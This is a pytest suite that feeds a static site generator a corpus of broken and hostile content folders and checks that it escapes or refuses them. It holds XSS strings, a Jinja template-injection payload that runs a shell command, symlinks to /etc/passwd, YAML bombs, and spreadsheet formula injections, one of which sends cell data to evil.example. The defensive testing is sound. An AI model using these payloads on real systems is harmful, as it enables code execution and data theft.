"""A corpus of broken and hostile content folders, written from FORMAT.md alone.

Every folder under tests/fixtures/hostile/ (plus a few made at run time: a 60 MB file,
symbolic links, a named pipe) goes through the same three proofs:

(a) `ssigen check` ends with exit code 0 or 1, prints no traceback, and every error line
    names a file of the folder; a folder that is meant to be broken gets at least one error,
    naming the file that is wrong;
(b) a folder that is valid but hostile builds a site where no page can run a script, load a
    frame, submit a form or follow a `javascript:` link, where the hostile text is shown as
    text, where no U+202E survives, and whose scores.csv cannot start a spreadsheet formula;
(c) a build that fails leaves the previous site byte for byte as it was, with nothing left
    beside it.

A case that reveals a bug keeps the assertion of the correct behaviour and is marked
`xfail(strict=True, reason="BUG: ...")`.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Callable

import pytest
from click.testing import CliRunner

import ssigen
from ssigen.cli import cli

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "fixtures" / "hostile"
BASELINE = CORPUS / "valid-minimal"

SECRET = "TOPSECRET-7d3f1c-outside-the-content-folder"
PASSWD_MARK = "root:x:0:0"
PWNED = Path("/tmp/pwned")
MAX_OUTPUT = 64 * 1024           # a wall of text is not a "clear error"
KNOWN_NAMES = {"ssigen.yml", "members.csv", "members.yml", "members", "snapshots", "deals.csv",
               "deals.yml", "deals", "cohorts.yml", "cohorts", "rubric.yml", "notes",
               "templates", "assets"}

X1 = "<script>alert(1)</script>"
X2 = '"><img src=x onerror=alert(1)>'
X3 = "</script><script>alert(1)</script>"
RLO = "\u202e"


# --------------------------------------------------------------------------- the cases

@dataclass
class Case:
    expect: str                            # "error", "valid" or "either"
    files: tuple[str, ...] = ()            # an error must name each of these files
    shown: tuple[tuple[str, str], ...] = ()  # (page or "*", text) visible on that page
    marked: tuple[str, ...] = ()           # wherever the first word is visible, all of it is
    absent: tuple[str, ...] = ()           # in no file of the built site
    csv_contains: tuple[str, ...] = ()     # each a substring of some cell of data/scores.csv
    isolate: bool = False                  # run ssigen in a subprocess with a time limit
    timeout: float = 30.0
    setup: Callable[[Path, Path], None] | None = None   # (content, outside) at run time
    extra: Callable[[Path], None] | None = None          # more checks on a built site
    bug: str | None = None


def _verbatim() -> str:
    # Rebuilt here exactly as tests/fixtures/hostile/hostile-deals/deals.csv holds it.
    with open(CORPUS / "hostile-deals" / "deals.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    text = rows[0]["verbatim"]
    assert len(text) >= 9990 and text.startswith("MKVERB ") and text.endswith(" ENDVERB")
    return text


def _no_negative_zero(site: Path) -> None:
    cells = [c for row in _read_scores_csv(site) for c in row]
    assert not [c for c in cells if re.fullmatch(r"-0(\.0*)?", c)], \
        "a pillar given as -0 is exported as a negative zero"


# run-time content ---------------------------------------------------------------

def _huge_file(content: Path, outside: Path) -> None:
    header = "member,date,ssi.brand,ssi.people,ssi.insights,ssi.relationships\n"
    with open(content / "snapshots" / "huge.csv", "w", encoding="utf-8") as f:
        f.write(header)
        f.write("alice,2026-06-02,")
        chunk = "A" * (1024 * 1024)
        for _ in range(60):
            f.write(chunk)
        f.write(",1,1,1\n")
    assert (content / "snapshots" / "huge.csv").stat().st_size > 60 * 1024 * 1024


def _secret_file(outside: Path, name: str = "secret.txt", text: str | None = None) -> Path:
    outside.mkdir(exist_ok=True)
    path = outside / name
    path.write_text(text if text is not None else f"{SECRET}\n", encoding="utf-8")
    return path


def _link_passwd_snapshot(content: Path, outside: Path) -> None:
    (content / "snapshots" / "passwd.csv").symlink_to("/etc/passwd")


def _link_passwd_notes(content: Path, outside: Path) -> None:
    (content / "notes").mkdir()
    (content / "notes" / "alice.md").symlink_to("/etc/passwd")


def _link_secret_notes(content: Path, outside: Path) -> None:
    (content / "notes").mkdir()
    (content / "notes" / "index.md").symlink_to(_secret_file(outside, "note.md"))


def _link_passwd_assets(content: Path, outside: Path) -> None:
    (content / "assets").mkdir()
    (content / "assets" / "passwd.txt").symlink_to("/etc/passwd")


def _link_secret_assets_file(content: Path, outside: Path) -> None:
    (content / "assets").mkdir()
    (content / "assets" / "logo.svg").symlink_to(_secret_file(outside, "logo.svg"))


def _link_secret_assets_dir(content: Path, outside: Path) -> None:
    _secret_file(outside, "secret.txt")
    # Change a file the build reads, so that this is not "the site already built".
    with open(content / "ssigen.yml", "a", encoding="utf-8") as f:
        f.write("activity_window_days: 31\n")
    (content / "assets").symlink_to(outside, target_is_directory=True)


def _link_secret_members(content: Path, outside: Path) -> None:
    text = (content / "members.csv").read_text(encoding="utf-8").replace("Alice Archer", SECRET)
    (content / "members.csv").unlink()
    (content / "members.csv").symlink_to(_secret_file(outside, "members.csv", text))


def _link_secret_config(content: Path, outside: Path) -> None:
    text = (content / "ssigen.yml").read_text(encoding="utf-8").replace(
        "Hostile corpus baseline", SECRET)
    (content / "ssigen.yml").unlink()
    (content / "ssigen.yml").symlink_to(_secret_file(outside, "ssigen.yml", text))


def _link_secret_template(content: Path, outside: Path) -> None:
    (content / "templates").mkdir()
    (content / "templates" / "index.html").symlink_to(_secret_file(outside, "index.html"))


def _template_ssti(content: Path, outside: Path) -> None:
    outside.mkdir(exist_ok=True)
    (content / "templates").mkdir()
    (content / "templates" / "index.html").write_text(
        "<html><body>SSTI {{ cycler.__init__.__globals__.os.popen('touch %s').read() }}"
        "</body></html>\n" % (outside / "pwned"), encoding="utf-8")


def _link_loop(content: Path, outside: Path) -> None:
    (content / "snapshots" / "loop").symlink_to("..", target_is_directory=True)


def _fifo(content: Path, outside: Path) -> None:
    os.mkfifo(content / "snapshots" / "pipe.csv")


BUG_UNCLOSED_QUOTE = (
    "BUG: a CSV field whose opening quote is never closed silently swallows the rest of the "
    "file (members.csv: bob's title becomes 'Sales Manager,Enterprise,Software,alice,\\n' and "
    "his team/manager are lost, or the rows below vanish); it should be an error at "
    "members.csv naming the unterminated quote")
BUG_ASSET_LINK = (
    "BUG: a symbolic link in assets/ pointing outside the content folder is followed and its "
    "target copied into the site (assets/passwd.txt -> /etc/passwd publishes /etc/passwd, an "
    "assets/ folder linked elsewhere publishes that folder); snapshots/, notes/ and "
    "members.csv refuse such links ('is a link to a place outside the content folder'), "
    "assets/ should too")
BUG_CONFIG_LINK = (
    "BUG: ssigen.yml as a symbolic link to a file outside the content folder is read and its "
    "text published (the title reaches every page); members.csv, snapshots/ and notes/ refuse "
    "such links, ssigen.yml should too")
BUG_TEMPLATE_LINK = (
    "BUG: templates/index.html as a symbolic link to a file outside the content folder "
    "(e.g. /etc/passwd) is rendered as the site's index.html; it should be refused like a "
    "link in notes/ or snapshots/")
BUG_TEMPLATE_SSTI = (
    "BUG: a template in the content folder's templates/ runs arbitrary Python: "
    "{{ cycler.__init__.__globals__.os.popen('touch FILE').read() }} creates FILE during the "
    "build (the templates are rendered by a non-sandboxed Jinja environment); a YAML "
    "!!python tag is refused, templates should be rendered in jinja2.sandbox too")
BUG_TEMPLATE_ERROR = (
    "BUG: a template that cannot be rendered (templates/index.html with a syntax error, or "
    "including ../../etc/passwd) passes 'ssigen check' as valid, and 'ssigen build' then "
    "fails with 'Error: unexpected failure (TemplateSyntaxError/TemplateNotFound: …) … report "
    "it' and ssigen.build() raises the Jinja exception instead of ContentErrors; both should "
    "report an error naming templates/index.html")
BUG_FIFO = (
    "BUG: a named pipe snapshots/pipe.csv makes 'ssigen check' (and build) block forever on "
    "open(); a file that is not a regular file should be an error (or skipped)")
BUG_NEG_ZERO = (
    "BUG (minor): ssi.brand given as -0 is accepted and exported as '-0.0' in data/scores.csv "
    "and -0.0 in data/scores.json; it should be refused or normalised to 0")

CASES: dict[str, Case] = {
    "valid-minimal": Case("valid", shown=(("index.html", "Alice Archer"),
                                          ("people/bob.html", "Bob Baker"))),
    # --- ssigen.yml
    "yaml-malformed": Case("error", files=("ssigen.yml",)),
    "yaml-deep-nesting": Case("error", files=("ssigen.yml",)),
    "yaml-empty": Case("error", files=("ssigen.yml",)),
    "yaml-list": Case("error", files=("ssigen.yml",)),
    "yaml-python-tag": Case("error", files=("ssigen.yml",)),
    "yaml-python-tag-members": Case("error", files=("members.yml",)),
    "yaml-billion-laughs": Case("error", files=("ssigen.yml",), isolate=True, timeout=5),
    "yaml-billion-laughs-snapshot": Case("error", files=("snapshots/bomb.yml",), isolate=True,
                                         timeout=5),
    "yaml-date-invalid-config": Case("error", files=("ssigen.yml",)),
    "yaml-date-invalid-snapshot": Case("error", files=("snapshots/extra.yml",)),
    "yaml-duplicate-key": Case("either"),
    "missing-ssigen-yml": Case("error", files=("ssigen.yml",)),
    "locale-traversal": Case("error", files=("ssigen.yml",)),
    "currency-hostile": Case("error", files=("ssigen.yml",)),
    "rates-inf": Case("error", files=("ssigen.yml",)),
    "contact-javascript": Case("error", files=("ssigen.yml",)),
    "contact-javascript-obfuscated": Case("error", files=("ssigen.yml",)),
    "contact-attr-breakout": Case("either"),
    "contact-data-url": Case("either"),
    "site-url-javascript": Case("either"),
    "brand-color-injection": Case("either"),
    "brand-logo-traversal": Case("either", absent=(PASSWD_MARK,)),
    "brand-logo-javascript": Case("either"),
    "window-days-huge": Case("either"),
    # --- CSV bytes and syntax
    "csv-unclosed-quote": Case("error", files=("members.csv",)),
    "csv-unclosed-quote-last-row": Case("error", files=("members.csv",)),
    "csv-tab-delimited": Case("error", files=("members.csv",)),
    "csv-pipe-delimited": Case("error", files=("members.csv",)),
    "csv-utf16": Case("error", files=("members.csv",)),
    "csv-latin1": Case("error", files=("members.csv",)),
    "csv-nul-byte": Case("error", files=("members.csv",)),
    "members-csv-is-directory": Case("error", files=("members.csv",)),
    "unknown-field-hostile-header": Case("error", files=("members.csv",)),
    "duplicate-member-id": Case("error", files=("members.csv",)),
    "huge-file-60mb": Case("error", files=("snapshots/huge.csv",), setup=_huge_file),
    # --- ids that would become file names
    "member-id-traversal": Case("error", files=("members.csv",)),
    "member-id-urlencoded": Case("error", files=("members.csv",)),
    "member-id-con": Case("error", files=("members.csv",)),
    "member-id-300-chars": Case("error", files=("members.csv",)),
    "member-id-trailing-newline": Case("either"),
    "members-dir-bad-stem": Case("error", files=("members/Bad Name.yml",)),
    "cohort-id-traversal": Case("error", files=("cohorts.yml",)),
    # --- values
    "date-feb30-csv": Case("error", files=("snapshots/ssi.csv",)),
    "number-inf-csv": Case("error", files=("snapshots/ssi.csv",)),
    "number-nan-csv": Case("error", files=("snapshots/ssi.csv",)),
    "number-nan-yaml": Case("error", files=("snapshots/extra.yml",)),
    "number-negative-zero": Case("either", extra=_no_negative_zero),
    "huge-int-activity": Case("either"),
    "deal-amount-inf": Case("error", files=("deals.csv",)),
    "deal-amount-nan": Case("error", files=("deals.csv",)),
    "deal-contribution-nan": Case("error", files=("deals.csv",)),
    "deal-unknown-member": Case("error", files=("deals.csv",)),
    "rubric-not-25": Case("error", files=("rubric.yml",)),
    "linkedin-url-javascript": Case("error", files=("members.csv",)),
    "linkedin-url-attr-breakout": Case("either"),
    # --- odd files and links
    "snapshot-dir-named-csv": Case("either"),
    "snapshots-empty-yaml": Case("either"),
    "symlink-passwd-snapshot": Case("error", files=("snapshots/passwd.csv",),
                                    setup=_link_passwd_snapshot),
    "symlink-passwd-notes": Case("either", absent=(PASSWD_MARK,), setup=_link_passwd_notes),
    "symlink-outside-notes": Case("either", absent=(SECRET,), setup=_link_secret_notes),
    "symlink-passwd-assets": Case("either", absent=(PASSWD_MARK,), setup=_link_passwd_assets),
    "symlink-outside-assets-file": Case("either", absent=(SECRET,),
                                        setup=_link_secret_assets_file),
    "symlink-outside-assets-dir": Case("either", absent=(SECRET,),
                                       setup=_link_secret_assets_dir),
    "symlink-outside-members": Case("either", absent=(SECRET,), setup=_link_secret_members),
    "symlink-outside-config": Case("either", absent=(SECRET,), setup=_link_secret_config),
    "symlink-outside-template": Case("either", absent=(SECRET,), setup=_link_secret_template),
    "symlink-loop": Case("either", setup=_link_loop, isolate=True, timeout=20),
    "fifo-in-snapshots": Case("either", setup=_fifo, isolate=True, timeout=5),
    # --- templates
    "template-syntax-error": Case("error", files=("templates/index.html",)),
    "template-include-traversal": Case("error", files=("templates/index.html",),
                                       absent=(PASSWD_MARK,)),
    "template-ssti": Case("either", setup=_template_ssti),
    # --- hostile but valid
    "hostile-names": Case(
        "valid",
        shown=(("index.html", f"MKN1 {X1}"), ("people/mallory.html", f"MKN1 {X1}"),
               ("people/mallory.html", f"MKT1 {X2}"), ("people/mallory.html", f"MKTEAM1 {X3}"),
               ("index.html", f"MKN2 {X2} <!--"), ("people/trudy.html", f"MKN2 {X2} <!--"),
               ("people/trudy.html", "MKT2 ]]> </title><script>alert(2)</script>"),
               ("people/trudy.html", "MKTEAM2 <!--")),
        marked=(f"MKN1 {X1}", f"MKT1 {X2}", f"MKTEAM1 {X3}", "MKIND1 <!-- ]]>",
                f"MKN2 {X2} <!--", "MKT2 ]]> </title><script>alert(2)</script>",
                "MKTEAM2 <!--", "MKIND2 </style><script>alert(3)</script>")),
    "hostile-config": Case(
        "valid",
        shown=(("index.html", f"MKTITLE {X1} </title><script>alert(2)</script>"),
               ("people/alice.html", f"MKTITLE {X1} </title><script>alert(2)</script>"),
               ("index.html", f"MKCLIENT {X2}"), ("index.html", f"MKPREP {X3} <!-- ]]>"),
               ("methodology.html", f"MKPREP {X3} <!-- ]]>"),
               ("*", "MKBAND0 <img src=x onerror=alert(1)>"),
               ("*", "MKBAND1 </script><script>alert(1)</script>")),
        marked=(f"MKTITLE {X1} </title><script>alert(2)</script>", f"MKCLIENT {X2}",
                f"MKPREP {X3} <!-- ]]>", "MKBAND0 <img src=x onerror=alert(1)>",
                "MKBAND1 </script><script>alert(1)</script>")),
    "hostile-deals": Case(
        "valid",
        shown=(("deals.html", f"MKACC1 {X1}"), ("*", f"MKACC2 {X2} <!--"),
               ("*", "@VERBATIM"), ("*", f"MKVERB2 {X3} ]]>")),
        marked=(f"MKACC1 {X1}", f"MKACC2 {X2} <!--", f"MKVERB2 {X3} ]]>",
                "MKDEALID <script>alert(1)</script>"),
        absent=("MKVERB 49",)),
    "hostile-cohorts": Case(
        "valid",
        shown=(("cohorts/wave-1.html", f"MKCOH1 {X1} {X2}"),
               ("cohorts/wave-2.html", f"MKCOH2 {X3} <!-- ]]>"),
               ("cohorts/wave-1.html", "MKCNOTE cohort note.")),
        marked=(f"MKCOH1 {X1} {X2}", f"MKCOH2 {X3} <!-- ]]>")),
    "hostile-notes-html": Case(
        "valid",
        shown=(("index.html", "MKNOTE start of the note."),
               ("people/alice.html", "MKNOTE start of the note."),
               ("index.html", "Prepared by Baseline Consultant"),
               ("people/alice.html", "Prepared by Baseline Consultant"))),
    "hostile-notes-markdown": Case(
        "valid",
        shown=(("index.html", "MKMD start of the note."),
               ("people/bob.html", "MKMD start of the note."),
               ("index.html", "MKJINJA2 {{ 7*7 }} and {% raw %} and {{ config.items() }}"),
               ("people/bob.html", "MKMD end of the list."),
               ("index.html", "Prepared by Baseline Consultant"),
               ("people/bob.html", "Prepared by Baseline Consultant")),
        absent=("MKJINJA2 49",)),
    "hostile-unicode": Case(
        "valid",
        shown=(("index.html", "محمد العلي"), ("people/arabic.html", "محمد العلي"),
               ("people/arabic.html", "مدير المبيعات"),
               ("people/rtl.html", "🚀 MKEMOJI Team 👩🏽‍💻"),
               ("people/emoji.html", "MKEMO 😀🎉 Émilie Ünïcødé"),
               ("people/zw.html", "MKZW ZeroWidth JoinerName"),
               ("people/rtl.html", "MKBIDI"), ("people/rtl.html", "gnp.exe Person"),
               ("index.html", "MKUTITLE"), ("index.html", "gpj.exe report"),
               ("index.html", "MKUNOTE"), ("deals.html", "MKUACC"))),
    "hostile-jinja": Case(
        "valid",
        shown=(("people/jinja.html", "MKJ1 {{ 7*7 }} Person"),
               ("index.html", "MKJ1 {{ 7*7 }} Person"),
               ("people/jinja.html", "MKJT1 {% raw %} title"),
               ("people/jinja.html", "MKJTEAM {{ config }}"),
               ("people/jinja2.html", "MKJ3 {{ ''.__class__.__mro__ }} {% endraw %}"),
               ("index.html", "MKJCLIENT {{ 7*7 }}"),
               ("people/jinja.html",
                "MKJNOTE {{ 7*7 }} and {% include '/etc/passwd' %} {% raw %}")),
        absent=("MKJ1 49", "MKJCLIENT 49", "MKJNOTE 49", PASSWD_MARK)),
    "hostile-formula": Case(
        "valid",
        shown=(("index.html", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
               ("people/formula1.html", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
               ("people/formula2.html", "-2+3+cmd|' /C calc'!A0"),
               ("people/formula3.html", "@evil"),
               ("*", '=HYPERLINK("https://evil.example","band")')),
        csv_contains=('HYPERLINK("https://evil.example/?x="&A1,"Click")',
                      "2+3+cmd|' /C calc'!A0", "SUM(1,2)", "evil", "1-1")),
    "hostile-snapshot-text": Case(
        "valid",
        marked=(f"MKINDNAME {X1} {X2}", f"MKHEAD {X1} {X3}",
                f"MKABOUT {X2} <!-- ]]> {{{{ 7*7 }}}}", f"MKPOS {X1}", f"MKPOSDESC {X2}"),
        absent=("MKABOUT 49",)),
}

GENERATED = {name for name, case in CASES.items() if case.setup is not None}


def _params():
    on_disk = sorted(p.name for p in CORPUS.iterdir() if p.is_dir())
    missing = sorted(set(on_disk) - set(CASES))
    assert not missing, f"fixture folders without an expectation: {missing}"
    names = sorted(set(on_disk) | GENERATED)
    for name in names:
        case = CASES[name]
        marks = [pytest.mark.xfail(strict=True, reason=case.bug)] if case.bug else []
        yield pytest.param(name, id=name, marks=marks)


# --------------------------------------------------------------------------- helpers

def _tree(root: Path) -> dict[str, bytes | str]:
    """Every entry under root: file bytes, or 'dir' / 'link -> target'."""
    found: dict[str, bytes | str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[rel] = f"link -> {os.readlink(path)}"
            elif path.is_dir():
                found[rel] = "dir"
            else:
                found[rel] = path.read_bytes()
    return found


def _names_a_file(content: Path, path: str) -> bool:
    path = path.strip()
    if not path or os.path.isabs(path):
        return False
    norm = os.path.normpath(path)
    if norm.startswith(".."):
        return False
    return norm in KNOWN_NAMES or os.path.lexists(content / norm)


def _error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("error:")]


def _limit_memory():                                     # pragma: no cover - in the child
    import resource
    limit = 2 * 1024 ** 3
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def _subprocess(args: list[str], timeout: float, cwd: Path) -> tuple[int, str, float]:
    started = time.perf_counter()
    try:
        done = subprocess.run([sys.executable, "-m", "ssigen", *args], cwd=cwd,
                              capture_output=True, text=True, timeout=timeout,
                              preexec_fn=_limit_memory, stdin=subprocess.DEVNULL,
                              env={**os.environ, "NO_COLOR": "1", "PYTHONHASHSEED": "0"})
    except subprocess.TimeoutExpired:
        pytest.fail(f"ssigen {args[0]} did not finish within {timeout} s")
    return done.returncode, done.stdout + done.stderr, time.perf_counter() - started


def _read_scores_csv(site: Path) -> list[list[str]]:
    text = (site / "data" / "scores.csv").read_text(encoding="utf-8-sig")
    first = text.splitlines()[0] if text else ""
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


ZERO_WIDTH = dict.fromkeys(map(ord, "\u200b\u200c\u200d\u2060\ufeff"))


def _norm(text: str) -> str:
    return re.sub(r"\s+", " ", text.translate(ZERO_WIDTH)).strip()


FORBIDDEN_TAGS = {"iframe", "object", "embed", "form", "base", "frame", "frameset", "applet"}
URL_ATTRS = {"href", "src", "action", "formaction", "poster", "background", "data", "lowsrc",
             "dynsrc", "cite", "longdesc", "ping"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


def _dangerous_url(value: str | None) -> bool:
    if value is None:
        return False
    # Browsers drop tabs and newlines anywhere in a URL and leading controls and spaces.
    cleaned = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(0x21)))).lower()
    return cleaned.startswith(BAD_SCHEMES)


class PageAudit(HTMLParser):
    """Collect every safety problem of one page, its visible text and its comments."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.raw_mode: str | None = None   # "json", "src", "style" while inside one
        self.raw: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._tag(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._tag(tag, attrs)
        if tag in ("script", "style"):
            self.raw_mode = None

    def _tag(self, tag, attrs):
        where = f"<{tag} {attrs}>"
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden element {where}")
        values = {}
        for name, value in attrs:
            values.setdefault(name, value)
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name} in {where}")
            if (name in URL_ATTRS or name.endswith(":href")) and _dangerous_url(value):
                self.problems.append(f"dangerous URL in {name} of {where}")
            if name == "srcset" and value and any(
                    _dangerous_url(part.strip()) for part in value.split(",")):
                self.problems.append(f"dangerous URL in srcset of {where}")
            if name == "srcdoc":
                self.problems.append(f"srcdoc attribute in {where}")
        if tag == "meta" and (values.get("http-equiv") or "").strip().lower() == "refresh":
            self.problems.append(f"meta refresh {where}")
        if tag == "script":
            kind = (values.get("type") or "").strip().lower()
            src = values.get("src")
            if src is not None:
                if not re.fullmatch(r"(\./|\.\./)*assets/[A-Za-z0-9._/-]+", src):
                    self.problems.append(f"script from outside assets/: {where}")
                self.raw_mode = "src"
            elif kind == "application/json":
                self.raw_mode = "json"
            else:
                self.problems.append(f"inline script {where}")
                self.raw_mode = "bad"
            self.raw = []
        elif tag == "style":
            self.raw_mode = "style"
            self.raw = []

    def handle_endtag(self, tag):
        if tag == "script" and self.raw_mode in ("json", "src", "bad"):
            body = "".join(self.raw)
            if self.raw_mode == "json":
                lowered = body.lower()
                if "</script" in lowered or "<!--" in lowered or "<script" in lowered:
                    self.problems.append(f"JSON script holds markup: {body[:200]!r}")
                try:
                    json.loads(body, parse_constant=_no_constant)
                except ValueError as exc:
                    self.problems.append(f"JSON script is not valid JSON ({exc}): {body[:200]!r}")
            elif self.raw_mode == "src" and body.strip():
                self.problems.append(f"script with src has a body: {body[:200]!r}")
            self.raw_mode = None
        elif tag == "style" and self.raw_mode == "style":
            self.raw_mode = None

    def handle_data(self, data):
        if self.raw_mode:
            self.raw.append(data)
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    def unknown_decl(self, data):
        self.problems.append(f"unexpected declaration <![{data[:100]}]>")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction <?{data[:100]}>")


def _no_constant(name):
    raise ValueError(f"{name} is not JSON")


def _audit(path: Path) -> PageAudit:
    audit = PageAudit()
    audit.feed(path.read_text(encoding="utf-8"))
    audit.close()
    if audit.raw_mode in ("json", "src", "bad"):
        audit.problems.append("a <script> is never closed")
    return audit


def _check_site(site: Path, case: Case) -> None:
    """Proof (b) on a site that was built."""
    files = [p for p in site.rglob("*") if p.is_file()]
    pages = {p.relative_to(site).as_posix(): p for p in files if p.suffix == ".html"}
    assert "index.html" in pages
    problems: list[str] = []
    texts: dict[str, str] = {}
    for rel, path in sorted(pages.items()):
        audit = _audit(path)
        problems += [f"{rel}: {p}" for p in audit.problems]
        texts[rel] = _norm("".join(audit.text))
        for comment in audit.comments:
            if re.search(r"MK[A-Z0-9]+|script|alert|onerror", comment, re.I):
                problems.append(f"{rel}: data leaked into an HTML comment: {comment[:200]!r}")
    assert not problems, "\n".join(problems)

    # The data is shown as text, exactly.
    for page, needle in case.shown:
        if needle == "@VERBATIM":
            needle = _verbatim()
        wanted = _norm(needle)
        candidates = texts if page == "*" else {page: texts.get(page)}
        assert page == "*" or texts.get(page) is not None, f"{page} was not built"
        assert any(text and wanted in text for text in candidates.values()), \
            f"{needle[:120]!r} is not visible text of {page}"
    for payload in case.marked:
        marker = payload.split()[0]
        for rel, text in texts.items():
            if marker in text:
                assert _norm(payload) in text, \
                    f"{rel} shows {marker} but not the text {payload!r} as it was written"

    # Nothing evaluated, nothing leaked, no right-to-left override anywhere.
    for path in files:
        data = path.read_bytes()
        rel = path.relative_to(site).as_posix()
        assert RLO.encode() not in data, f"U+202E in {rel}"
        text = data.decode("utf-8", errors="replace")
        assert "\\u202e" not in text.lower(), f"escaped U+202E in {rel}"
        for needle in case.absent:
            assert needle not in text, f"{needle!r} found in {rel}"

    # Data exports: strict JSON, and no cell a spreadsheet would take for a formula.
    for path in (site / "data").glob("*.json"):
        json.loads(path.read_text(encoding="utf-8"), parse_constant=_no_constant)
    rows = _read_scores_csv(site)
    number = re.compile(r"-?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?")
    bad = [cell for row in rows for cell in row
           if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(cell)]
    assert not bad, f"data/scores.csv cells that a spreadsheet runs as formulas: {bad}"
    cells = [cell for row in rows for cell in row]
    for needle in case.csv_contains:
        assert any(needle in cell for cell in cells), f"{needle!r} missing from scores.csv"
    if case.extra:
        case.extra(site)


# --------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def baseline_site(tmp_path_factory) -> Path:
    """A site built from valid-minimal, copied before every case as 'the previous site'."""
    out = tmp_path_factory.mktemp("baseline") / "site"
    ssigen.build(BASELINE, out)
    return out


def _pwned_state():
    try:
        stat = PWNED.stat()
    except FileNotFoundError:
        return None
    return (stat.st_mtime_ns, stat.st_size)


# --------------------------------------------------------------------------- the test

@pytest.mark.parametrize("name", list(_params()))
def test_hostile_case(name: str, tmp_path: Path, baseline_site: Path) -> None:
    case = CASES[name]
    content, outside, sites = tmp_path / "content", tmp_path / "outside", tmp_path / "sites"
    source = CORPUS / name if (CORPUS / name).is_dir() else BASELINE
    shutil.copytree(source, content, symlinks=True)
    if case.setup:
        case.setup(content, outside)
    out = sites / "out"
    shutil.copytree(baseline_site, out, symlinks=True)
    previous = _tree(out)
    beside = sorted(os.listdir(sites))
    around = sorted(os.listdir(tmp_path))
    pwned_before = _pwned_state()

    # (a) check: exit 0 or 1, no traceback, every error line names a file of the folder.
    if case.isolate:
        code, output, seconds = _subprocess(["check", str(content)], case.timeout, tmp_path)
    else:
        started = time.perf_counter()
        result = CliRunner().invoke(cli, ["check", str(content)], catch_exceptions=False)
        code, output, seconds = result.exit_code, result.output, time.perf_counter() - started
    assert code in (0, 1), output[-2000:]
    assert "Traceback" not in output, output[-4000:]
    assert len(output) < MAX_OUTPUT, f"{len(output)} characters of output"
    assert seconds < case.timeout, f"check took {seconds:.1f} s"
    errors = _error_lines(output)
    assert (code == 1) == bool(errors), output[-2000:]
    for line in errors:
        path = line[len("error: "):].split(":", 1)[0]
        assert _names_a_file(content, path), f"does not name a file of the folder: {line!r}"
    if case.expect == "error":
        assert code == 1, f"expected errors, got a valid folder:\n{output[-2000:]}"
        named = {line[len("error: "):].split(":", 1)[0] for line in errors}
        for wanted in case.files:
            assert wanted in named, f"no error names {wanted}:\n{output[-2000:]}"
    elif case.expect == "valid":
        assert code == 0, output[-2000:]

    # (b)/(c) build over the previous site.
    if case.isolate:
        built_code, built_output, _ = _subprocess(["build", str(content), "-o", str(out)],
                                                  case.timeout, tmp_path)
        assert built_code in (0, 1) and "Traceback" not in built_output, built_output[-4000:]
        built = built_code == 0
    else:
        unexpected: BaseException | None = None
        try:
            ssigen.build(content, out)
            built = True
        except ssigen.ContentErrors as exc:
            built = False
            assert exc.errors
            for error in exc.errors:
                assert error.message, error
                assert _names_a_file(content, error.file), f"does not name a file: {error}"
        except Exception as exc:                       # noqa: BLE001 - the point of the test
            built, unexpected = False, exc

    if built:
        assert sorted(os.listdir(sites)) == ["out"], "build left something beside the site"
        _check_site(out, case)
    else:
        assert _tree(out) == previous, "a failed build changed the previous site"
        assert sorted(os.listdir(sites)) == beside, "a failed build left something beside it"
    if not case.isolate and unexpected is not None:
        pytest.fail(f"ssigen.build raised {type(unexpected).__name__}: {unexpected} "
                    "instead of ContentErrors")
    assert built == (code == 0), "check and build disagree on whether the folder is valid"
    assert sorted(os.listdir(tmp_path)) == around, "ssigen wrote outside its output folder"
    assert _pwned_state() == pwned_before, "a YAML tag ran a shell command"
    assert not (outside / "pwned").exists(), "content made ssigen run a shell command"


# --------------------------------------------------------------------------- output folders

def _foreign(tmp_path: Path) -> tuple[Path, Path]:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.docx").write_bytes(b"years of work")
    return out, out


def _content_itself(tmp_path: Path) -> tuple[Path, Path]:
    return tmp_path / "content", tmp_path / "content"


def _a_file(tmp_path: Path) -> tuple[Path, Path]:
    out = tmp_path / "site"
    out.write_text("not a folder\n")
    return out, out


def _parent_of_content(tmp_path: Path) -> tuple[Path, Path]:
    return tmp_path, tmp_path


@pytest.mark.parametrize("make", [_foreign, _content_itself, _a_file, _parent_of_content],
                         ids=["foreign-folder", "content-folder", "a-file", "content-parent"])
def test_refused_output_folder_is_left_alone(make, tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(CORPUS / "hostile-names", content)
    out, watched = make(tmp_path)
    before = _tree(watched) if watched.is_dir() else watched.read_bytes()
    with pytest.raises(ssigen.OutputError):
        ssigen.build(content, out)
    result = CliRunner().invoke(cli, ["build", str(content), "-o", str(out)],
                                catch_exceptions=False)
    # 1: refused by ssigen; 2: refused by the command line's own option check (a file).
    assert result.exit_code in (1, 2) and "Traceback" not in result.output, result.output
    after = _tree(watched) if watched.is_dir() else watched.read_bytes()
    assert after == before


# --------------------------------------------------------------------------- the checker itself

def test_page_audit_is_not_blind(tmp_path: Path) -> None:
    """The page checks above catch what they claim to catch (a check that sees nothing
    proves nothing)."""
